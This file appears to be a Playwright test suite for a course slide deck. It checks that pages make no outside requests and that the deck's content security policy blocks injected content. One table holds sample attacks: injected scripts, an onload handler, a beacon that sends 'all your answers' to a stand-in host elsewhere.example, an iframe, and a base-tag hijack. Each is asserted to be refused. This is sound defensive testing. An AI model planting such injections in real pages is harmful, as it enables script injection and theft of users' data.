/** What the deck never does: ask another origin for anything, or run and show what is not its own. */
import type { Browser, BrowserContext, Page } from 'playwright-chromium'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { questions } from '../../data/questions/index.ts'
import { handoutKinds } from '../../logic/handout/options.ts'
import { launchBrowser, openSlide, serveFolder, standStill, turnTo, watch } from '../support/open-deck.ts'
import { readSlides } from '../support/read-chapters.ts'
import { noteRefused } from '../support/refused.ts'

const slides = readSlides()
/** The first slide of each chapter. */
const openers = slides.flatMap(({ file }, i) => file === slides[i - 1]?.file ? [] : [i + 1])
const pages = [
  'review',
  `review/q/${Object.keys(questions)[0]}`,
  'read',
  'handout',
  ...handoutKinds.map(kind => `handout?kind=${kind}`),
  'plan',
  'plan?plan=single-hour',
  'glossary',
  'sources',
  'not-found',
  'no-such-slide',
]

let browser: Browser
let student: Awaited<ReturnType<typeof serveFolder>>
let lecturer: Awaited<ReturnType<typeof serveFolder>>
let context: BrowserContext
let page: Page
let pageErrors: ReturnType<typeof watch>
/** What the pages' policy has refused: where, by which rule, and what. */
let refused: readonly string[]
let place = ''

beforeAll(async () => {
  browser = await launchBrowser()
  student = await serveFolder('dist', '/courses/green/')
  lecturer = await serveFolder('dist-lecturer')
})
beforeEach(async () => {
  context = await browser.newContext({ viewport: { width: 1280, height: 720 }, reducedMotion: 'reduce', colorScheme: 'light' })
  refused = await noteRefused(context, () => place)
  page = await context.newPage()
  page.setDefaultTimeout(60_000)
})
afterEach(() => context.close())
afterAll(async () => {
  await browser.close()
  student.close()
  lecturer.close()
})

/** Opens a page beside the slides and waits until it has all that it shows. */
async function openPage(origin: string, path: string, query = ''): Promise<void> {
  place = path + query
  await page.goto('about:blank')
  await page.goto(`${origin}${query}#/${path}`)
  // on paper, what leads to a slide does not show
  await page.locator('main h1').first().waitFor({ state: 'attached' })
  await standStill(page)
}

describe('nothing leaves the origin, and nothing is refused', () => {
  // every slide at every click, by day and by night: deck-axe.test.ts
  it('on the first slide of each chapter, as day and night change', async () => {
    pageErrors = watch(context, student.origin)
    await openSlide(page, student.origin, 1)
    for (const [i, no] of openers.entries()) {
      place = slides[no - 1]!.front.routeAlias!
      await page.emulateMedia({ colorScheme: i % 2 ? 'light' : 'dark' })
      await turnTo(page, no)
      await page.emulateMedia({ colorScheme: i % 2 ? 'dark' : 'light' })
    }
    expect(refused).toEqual([])
    expect(pageErrors).toEqual({ errors: [], outside: [] })
  })

  it('on every page beside the slides', async () => {
    pageErrors = watch(context, student.origin)
    for (const path of pages)
      await openPage(student.origin, path)
    expect(refused).toEqual([])
    expect(pageErrors).toEqual({ errors: [], outside: [] })
  })

  it('on paper', async () => {
    pageErrors = watch(context, student.origin)
    await page.emulateMedia({ media: 'print' })
    await openPage(student.origin, 'handout?kind=notes')
    await openPage(student.origin, 'read')
    place = 'a slide in print'
    for (const no of [1, 4])
      await openSlide(page, `${student.origin}?print`, no)
    expect(await page.evaluate(() => [...document.styleSheets].some(({ cssRules }) => [...cssRules].some(rule => rule.cssText.startsWith('@page'))))).toBe(true)
    expect(refused).toEqual([])
    expect(pageErrors).toEqual({ errors: [], outside: [] })
  })

  it('on the lecturer’s presenter pages, beside a window that follows', async () => {
    pageErrors = watch(context, lecturer.origin)
    const audience = await context.newPage()
    place = 'audience'
    await openSlide(audience, lecturer.origin, 1)
    for (const no of [1, 4, 20]) {
      place = `presenter ${no}`
      await page.goto('about:blank')
      await page.goto(`${lecturer.origin}#/presenter/${no}`)
      await page.locator('#slideshow > .slidev-page:visible .slidev-layout').first().waitFor()
    }
    expect(refused).toEqual([])
    expect(pageErrors).toEqual({ errors: [], outside: [] })
  })
})

describe('what is not the deck’s own is refused', () => {
  beforeEach(async () => {
    await openSlide(page, student.origin, 1)
    place = 'slide'
  })
  const isRefused = (rule: string) => expect.poll(() => refused.map(what => what.split(' ')[1]), { timeout: 20_000 }).toContain(rule)
  const hasRun = () => page.evaluate(() => 'harm' in window)

  it.each([
    ['a script that stands in the page', 'script-src-elem', () => { document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.harm = 1' })) }],
    ['an event handler in markup', 'script-src-attr', () => { document.body.insertAdjacentHTML('beforeend', '<img src="favicon.svg" alt="" onload="window.harm = 1">') }],
    // eslint-disable-next-line no-implied-eval -- what must not run
    ['text that is run as a script', 'script-src', () => { setTimeout('window.harm = 1' as never) }],
    ['a script from elsewhere', 'script-src-elem', () => { document.body.append(Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/harm.js' })) }],
    ['styles that markup brings', 'style-src-attr', () => { document.body.insertAdjacentHTML('beforeend', '<p style="color: red">harm</p>') }],
    ['a picture from elsewhere', 'img-src', () => { document.body.append(Object.assign(document.createElement('img'), { src: 'https://elsewhere.example/seen.gif' })) }],
    ['a message to elsewhere', 'connect-src', () => { navigator.sendBeacon('https://elsewhere.example/', 'all your answers') }],
    ['a frame', 'frame-src', () => { document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' })) }],
    ['another ground for relative addresses', 'base-uri', () => { document.head.prepend(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' })) }],
  ] as const)('%s', async (_, rule, attempt) => {
    const reached: string[] = []
    await context.route('https://elsewhere.example/**', (route) => {
      reached.push(route.request().url())
      return route.abort()
    })
    await page.evaluate(attempt)
    await isRefused(rule)
    expect(await hasRun()).toBe(false)
    expect(reached).toEqual([])
  })

  it('and no page that it links to is told where the reader comes from', async () => {
    expect(await page.locator('meta[name=referrer]').getAttribute('content')).toBe('no-referrer')
  })
})
